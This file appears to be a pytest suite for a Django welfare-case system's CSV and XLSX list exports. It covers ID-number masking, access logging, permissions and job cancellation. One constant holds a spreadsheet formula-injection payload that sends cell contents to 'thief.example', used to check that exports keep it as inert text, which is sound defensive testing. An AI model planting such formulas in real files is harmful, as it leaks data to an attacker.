"""Lists as files: what stands in them, who gets them, and that nothing in them runs."""

import csv
import datetime as dt
import io
import re
import uuid
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from django.urls import reverse
from django.utils import translation

from accounts.models import AccessLog
from accounts.states import ROLE_PERMISSIONS, Perm, Role
from beneficiaries.models import Beneficiary
from exports import tasks
from exports.domain import jobs as export_jobs
from exports.domain import listings, requests, streams
from jobs.domain import queue, result_files, runs
from jobs.models import Job
from jobs.states import State
from ledger import clock
from ledger.errors import Refused
from spreadsheets import writers
from tests import factories as make
from tests.desk.factories import client_of, staff

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://thief.example/?q="&A1,"اضغط")'
REASON = "مراجعة الضمان الاجتماعي"


@pytest.fixture
def head() -> Any:
    return staff(Role.HEAD)


def post(user: Any, query: str = "list=people", **fields: Any) -> Any:
    data = {"format": "csv", "page_token": str(uuid.uuid4()), **fields}
    return client_of(user).post(f"{reverse('exports:export')}?{query}", data)


def asked(user: Any, query: str = "list=people", **fields: Any) -> Job:
    """The job that the page makes."""
    response = post(user, query, **fields)
    assert response.status_code == 302, response.content.decode()[:2000]
    return Job.objects.get(pk=response["Location"].strip("/").split("/")[-1])


def carried(job: Job) -> Job:
    tasks.export(str(job.pk))
    return Job.objects.get(pk=job.pk)


def download(user: Any, job: Job) -> Any:
    return client_of(user).get(reverse("jobs:result", args=[job.pk]))


def table(user: Any, query: str = "list=people", **fields: Any) -> list[list[Any]]:
    """The file's rows, read as a spreadsheet would."""
    job = carried(asked(user, query, **fields))
    assert (job.state, job.error) == (State.DONE, "")
    content = b"".join(download(user, job))
    if job.result_name.endswith(".csv"):
        assert content.startswith(b"\xef\xbb\xbf")
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_file_of_an_empty_list_has_its_heading(head):
    assert [row[0] for row in table(head)] == ["المستفيد"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_file_with_a_formula_in_a_name_keeps_it_text(head, kind):
    # no page takes such a name; a table that was loaded by other means may hold it
    Beneficiary.objects.filter(pk=make.make_person().pk).update(first_name=FORMULA)
    name = table(head, format=kind)[1][0]
    assert name.startswith(f"'{FORMULA}" if kind == "csv" else FORMULA)


def test_file_is_in_arabic_with_dates_in_both_calendars(head):
    make.make_person(birth_date=dt.date(1990, 1, 15))
    headings, person = table(head, format="xlsx")
    assert headings[:5] == ["المستفيد", "نوع الهوية", "رقم الهوية", "الجنس", "تاريخ الميلاد"]
    at = headings.index("تاريخ الميلاد")
    assert person[at] == dt.datetime(1990, 1, 15)
    assert (headings[at + 1], person[at + 1]) == ("تاريخ الميلاد (هجري)", "18 جمادى الآخرة 1410هـ")
    assert all(headings)


def test_numbers_are_masked_without_the_permission():
    reader = staff(Role.RECEPTION)
    case = make.submitted(by=reader)
    person = case.beneficiary
    response = post(reader, "list=reception", full_numbers="on", reason=REASON)
    job = carried(Job.objects.get(pk=response["Location"].strip("/").split("/")[-1]))
    content = b"".join(download(reader, job)).decode()
    assert case.reference in content
    assert f"••••••{person.id_tail}" in content
    assert person.id_number not in content


def test_full_numbers_with_a_reason_are_written_and_logged(head):
    person = make.make_person()
    assert table(head)[1][2] == f"••••••{person.id_tail}"
    assert table(head, full_numbers="on", reason=REASON)[1][2] == person.id_number
    details = [row.detail for row in AccessLog.objects.filter(staff=head, what="export").order_by("id")]
    jobs = [str(job.pk) for job in Job.objects.order_by("created_at")]
    masked, whole = "people; csv; masked", f"people; csv; whole numbers; {REASON}"
    assert details == [
        f"{about}; {what}; job {job}"
        for job, about in zip(jobs, (masked, whole), strict=True)
        for what in ("asked", "written: 1 rows", "1 rows")
    ]


def test_reason_of_the_longest_kind_fits_the_log(head):
    make.make_person()
    table(head, full_numbers="on", reason="س" * 80)
    assert post(head, full_numbers="on", reason="س" * 81).status_code == 422
    job = Job.objects.get()
    assert all(row.detail.endswith(f"job {job.pk}") for row in AccessLog.objects.filter(what="export"))


@pytest.mark.parametrize("reason", ["", "هوية 1012345678", "هوية ١٠١ ٢٣٤ ٥٦٧٨"])
def test_full_numbers_without_a_plain_reason_are_refused(head, reason):
    assert post(head, full_numbers="on", reason=reason).status_code == 422
    assert not Job.objects.exists()


def test_number_of_another_row_is_never_written(head):
    one, other = make.make_person(), make.make_person()
    Beneficiary.objects.filter(pk=one.pk).update(id_token=other.id_token)
    job = carried(asked(head, full_numbers="on", reason=REASON))
    assert (job.state, job.result_name) == (State.FAILED, "")
    assert list(result_files.folder(job.pk).rglob("list")) == []


def test_file_filtered_holds_its_rows_only():
    reader = staff(Role.RECEPTION)
    draft, sent = make.draft(by=reader), make.submitted(by=reader)
    elsewhere = make.submitted(by=staff(Role.RECEPTION, "OTHER"))
    seen = lambda query: {row[3] for row in table(reader, query)[1:]}  # noqa: E731
    assert seen("list=reception") == {draft.reference, sent.reference}
    assert seen("list=reception&only=draft") == {draft.reference}
    assert seen("list=reception&only=nonsense") == {draft.reference, sent.reference}
    assert elsewhere.reference not in seen("list=reception")
    assert Job.objects.filter(title__contains=str(listings.LISTINGS["reception"].filters["draft"])).count() == 1


def test_file_longer_than_a_batch_keeps_the_order(head, monkeypatch):
    monkeypatch.setattr(streams, "BATCH", 2)
    people = [make.make_person() for _ in range(5)]
    assert [row[0] for row in table(head)[1:]] == [person.full_name for person in people]
    assert Job.objects.get().done == Job.objects.get().total == 5


@pytest.mark.parametrize("key", listings.LISTINGS)
def test_listing_is_written_in_each_format_and_filter(key, tmp_path):
    made = make.submitted()
    user = make.make_staff(Role.HEAD, Role.SECRETARY, Role.DECIDER, Role.RECEPTION, branch=made.branch)
    listing = listings.LISTINGS[key]
    for only in ("", *listing.filters):
        columns = listing.columns(True)
        heads = [head for column in columns for head in column.heads]
        for kind, writer in writers.WRITERS.items():
            file = writer(tmp_path / kind, heads)
            for batch in export_jobs.batches(user, listing, only, columns):
                assert len(batch) == len(heads)
                file.write(batch)
            file.close()


@pytest.mark.parametrize("key", ["decisions", "sittings"])
def test_listing_of_a_committee_holds_its_own_rows(key):
    item = make.voted(make.awaiting_decision())
    secretary = make.secretary(item.sitting.committee)
    stranger = staff(Role.SECRETARY)
    assert len(table(secretary, f"list={key}")) == (1 if key == "decisions" else 2)
    assert len(table(stranger, f"list={key}")) == 1


def submit(by: Any, key: str, **changed: Any) -> Job:
    chosen = {"only": "", "format": "csv", "full_numbers": False, "reason": "", "page_token": uuid.uuid4().hex}
    request = requests.ExportRequest(listing=key, **{**chosen, **changed})
    return requests.submit(by=by, listing=listings.LISTINGS[key], request=request, url="/export/", back="/")


@pytest.mark.parametrize("key", listings.LISTINGS)
@pytest.mark.parametrize("role", Role)
def test_request_without_the_permission_is_refused(key, role):
    user = staff(role)
    if user.may(Perm.EXPORT_LISTS) and user.may(listings.LISTINGS[key].need):
        return
    with pytest.raises(Refused) as refused:
        submit(user, key)
    assert refused.value.code == "may"
    assert not Job.objects.exists()


def test_request_for_full_numbers_without_the_permission_is_refused():
    with pytest.raises(Refused) as refused:
        submit(staff(Role.RECEPTION), "reception", full_numbers=True, reason=REASON)
    assert refused.value.code == "may"


@pytest.mark.parametrize(("key", "code"), [("notices", "numbers_missing"), ("people", "reason_missing")])
def test_request_for_full_numbers_without_them_or_a_reason_is_refused(head, key, code):
    with pytest.raises(Refused) as refused:
        submit(head, key, full_numbers=True)
    assert refused.value.code == code


def test_request_clicked_twice_makes_one_job(head):
    token = str(uuid.uuid4())
    first = asked(head, page_token=token)
    assert asked(head, page_token=token) == first
    assert asked(head) != first
    assert Job.objects.count() == 2


def lose_the_role(user: Any) -> None:
    user.roles = [Role.MANAGER]
    user.save()


def leave(user: Any) -> None:
    user.is_active = False
    user.save()


def lose_the_numbers(user: Any) -> None:
    # a head who is made a receptionist keeps the list and loses the numbers
    user.roles = [Role.RECEPTION, Role.HEAD]
    user.save()


@pytest.mark.parametrize("change", [lose_the_role, leave])
def test_job_of_one_who_lost_the_permission_fails(head, change: Callable[[Any], None]):
    make.make_person()
    job = asked(head)
    change(head)
    job = carried(job)
    assert (job.state, job.error, job.result_name) == (State.FAILED, export_jobs.LOST, "")
    with translation.override("ar"):
        assert "لم يعد" in translation.gettext(job.error)


def test_job_of_one_who_lost_full_numbers_fails(head, monkeypatch):
    job = asked(head, full_numbers="on", reason=REASON)
    monkeypatch.setitem(ROLE_PERMISSIONS, Role.HEAD, ROLE_PERMISSIONS[Role.HEAD] - {Perm.EXPORT_IDS})
    from accounts import states as roles  # here: its cache keeps what the roles gave before

    roles._bundle.cache_clear()
    job = carried(job)
    monkeypatch.undo()
    roles._bundle.cache_clear()
    assert (job.state, job.error) == (State.FAILED, export_jobs.NUMBERS_LOST)


def test_job_cancelled_while_it_runs_leaves_no_file(head, monkeypatch):
    for _ in range(3):
        make.make_person()
    monkeypatch.setattr(streams, "BATCH", 1)
    job, real = asked(head, format="xlsx"), runs.Run.advance

    def advance(run: runs.Run, *, done: int, total: int | None = None) -> None:
        real(run, done=done, total=total)
        if done == 1:
            queue.cancel(job_id=job.pk, by=head)

    monkeypatch.setattr(runs.Run, "advance", advance)
    job = carried(job)
    assert (job.state, job.done, job.result_name) == (State.CANCELLED, 1, "")
    assert [path for path in result_files.folder(job.pk).rglob("*") if path.is_file()] == []


class Killed(BaseException):
    """As SIGKILL would, nothing after it runs."""


def test_job_of_a_killed_worker_is_written_anew(head, monkeypatch, at):
    people = [make.make_person() for _ in range(4)]
    monkeypatch.setattr(streams, "BATCH", 1)
    job, real = asked(head), runs.Run.advance

    def advance(run: runs.Run, *, done: int, total: int | None = None) -> None:
        real(run, done=done, total=total)
        if done == 3 and run.attempt == 1:
            left = result_files.place(run.job.pk, result_files.WORK) / "left"
            left.write_text("half a file")
            raise Killed

    monkeypatch.setattr(runs.Run, "advance", advance)
    with pytest.raises(Killed):
        tasks.export(str(job.pk))
    assert Job.objects.get(pk=job.pk).state == State.RUNNING
    with at(clock.now() + 2 * runs.LEASE):
        job = carried(job)
    assert (job.state, job.attempt, job.done, job.total) == (State.DONE, 2, 4, 4)
    rows = list(csv.reader(io.StringIO(b"".join(download(head, job)).decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == [person.full_name for person in people]
    assert {path.name for path in result_files.folder(job.pk).rglob("*") if path.is_file()} == {result_files.RESULT}


def test_file_is_gone_after_seven_days(head, at):
    job = carried(asked(head))
    assert download(head, job).status_code == 200
    with at(clock.now() + dt.timedelta(days=7, minutes=1)):
        queue.purge()
        response = download(head, job)
    assert response.status_code == 410
    assert "سبعة أيام" in response.content.decode()
    assert not list(result_files.folder(job.pk).iterdir())


def test_file_of_a_colleague_is_not_found(head):
    job = carried(asked(head))
    assert download(staff(Role.HEAD), job).status_code == 404


def test_listing_without_the_permission_is_not_found(head):
    researcher = staff(Role.RESEARCHER)
    page = client_of(researcher).get(f"{reverse('exports:export')}?list=people")
    assert page.status_code == 404
    assert post(researcher, "list=reception").status_code == 404
    assert post(head, "list=nonsense").status_code == 404
    assert post(staff(Role.MANAGER)).status_code == 403


def test_page_shows_what_the_file_will_hold(head):
    make.make_person()
    html = client_of(head).get(f"{reverse('exports:export')}?list=people").content.decode()
    assert "المستفيدون" in html
    assert "تاريخ الميلاد (هجري)" in html
    assert 'name="full_numbers"' in html
    reader = staff(Role.RECEPTION)
    assert (
        'name="full_numbers"'
        not in client_of(reader).get(f"{reverse('exports:export')}?list=reception").content.decode()
    )


PAGES = {
    **{f"{reverse('desk:home')}?queue={key}": key for key in ("reception", "researcher", "head", "committee")},
    f"{reverse('desk:home')}?queue=department": "department",
    **{reverse(one.view): one.key for one in listings.LISTINGS.values() if one.view != "desk:home"},
}


def test_listings_all_have_a_page():
    assert sorted(PAGES.values()) == sorted(listings.LISTINGS)


@pytest.mark.parametrize("role", [role for role in Role if role is not Role.ADMIN])
def test_link_stands_on_pages_of_those_who_may_export(role):
    user = staff(role)
    for page, key in PAGES.items():
        # somebody else's queue is one's own at that address
        if "queue=" in page and not user.may(listings.LISTINGS[key].need):
            continue
        response = client_of(user).get(page)
        if response.status_code == 200:
            leads = re.findall(r"/export/\?list=([a-z-]+)", response.content.decode())
            may = user.may(Perm.EXPORT_LISTS) and user.may(listings.LISTINGS[key].need)
            assert leads == ([key] if may else []), page


def test_link_carries_the_filter(head):
    html = client_of(head).get(f"{reverse('desk:home')}?only=assign").content.decode()
    assert "/export/?list=head&amp;only=assign" in html
    html = client_of(head).get(f"{reverse('channels_log:notices')}?state=owed").content.decode()
    assert "/export/?list=notices&amp;only=owed" in html


def test_task_has_the_name_in_jobs():
    assert tasks.export.name == requests.TASK


@pytest.mark.django_db(transaction=True)
def test_rows_behind_a_pooler_use_another_connection(settings):
    settings.DISABLE_SERVER_SIDE_CURSORS = True
    make.make_policy()
    head = staff(Role.HEAD)
    person = make.make_person()
    assert [row[0] for row in table(head)[1:]] == [person.full_name]
